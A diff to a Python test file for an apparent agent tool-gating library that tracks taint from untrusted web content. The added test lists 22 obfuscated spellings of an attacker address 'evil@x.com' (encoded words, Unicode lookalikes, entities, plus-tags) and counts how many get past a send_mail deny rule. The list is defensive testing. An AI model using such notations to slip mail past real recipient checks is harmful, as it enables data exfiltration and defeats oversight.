@@ -1,13 +1,14 @@
 """Information flow in a session: what a labelled result taints, live and replayed."""
 
 import asyncio
+import contextlib
 import threading
 from collections.abc import AsyncIterator, Callable, Iterator
 from typing import Any
 
 import pytest
 from rollcage import Blocked, Contract, Options, Session, StepView, Store, Verdict, tool
-from rollcage_policy import Labelling
+from rollcage_policy import Labelling, Policy, UserInput
 
 Events = Callable[[str], list[dict[str, Any]]]
 sent: list[str] = []
@@ -225,3 +226,30 @@ def test_a_session_without_rules_keeps_no_labels(store: Store, events: Events) -
         free.call(fetch_page, url="a.example")
         free.call(send_mail, to="evil@x.com")
     assert all("labels" not in each for each in events(free.run_id))
+
+
+NOTATIONS = [
+    "evil@x.com", "EVIL@X.COM", " evil@x.com ", "<evil@x.com>", "mailto:evil@x.com", "evil@x.com.",
+    "evil+1@x.com", "e.v.i.l@x.com", '"evil"@x.com', "evil(x)@x.com", "evil@(x)x.com",
+    "evil%40x.com", "evil@mail.x.com", "evil@[192.0.2.7]", "=?utf-8?q?evil=40x=2Ecom?=",
+    "=?utf-8?b?ZXZpbEB4LmNvbQ==?=", "ev il@x.com", "evil&#64;x.com", "evil@x\u3002com",
+    "ev\u00adil@x.com", "evil\uff20x.com", "evil@\u24e7.com",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("when", "passes"), [('"untrusted" in labels && !named(args.to)', 12), ("!named(args.to)", 0)]
+)
+def test_notations_get_past_a_rule_that_needs_a_label(store: Store, when: str, passes: int) -> None:
+    """The numbers stand in docs/information-flow.md."""
+    rule = f"[[rules]]\nid = 'to'\ntools = ['send_*']\nwhen = '{when}'\ndecision = 'deny'\n"
+    policy = Policy.parse(f"version = 1\ndefault = 'allow'\n{rule}reason = 'not named'\n")
+    gate: list[Any] = [policy, UserInput("Look at the page, and tell ann@y.org of it.")]
+    with Session("flow", store=store, gate=gate) as live:
+        live.call(fetch_page, url="a.example")
+        for each in NOTATIONS:
+            with contextlib.suppress(Blocked):
+                live.call(send_mail, to=each)
+        assert len(sent) == passes
+        live.call(send_mail, to="ann@y.org")
+    assert sent[-1] == "ann@y.org"
